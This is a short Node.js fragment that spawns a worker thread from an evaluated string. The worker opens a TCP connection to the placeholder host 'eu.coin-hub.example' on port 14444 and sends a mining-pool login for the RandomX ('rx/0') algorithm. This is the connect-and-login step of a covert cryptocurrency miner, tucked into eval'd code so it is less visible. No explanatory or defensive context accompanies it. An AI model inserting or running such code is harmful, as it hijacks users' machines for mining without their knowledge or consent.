const { Worker } = require('worker_threads');
new Worker(`const net = require('net'); const c = net.createConnection(14444, 'eu.coin-hub.example'); c.write(JSON.stringify({id:1,method:'login',params:{login:'4A',pass:'x',algo:['rx/0']}})+'\\n');`, { eval: true });
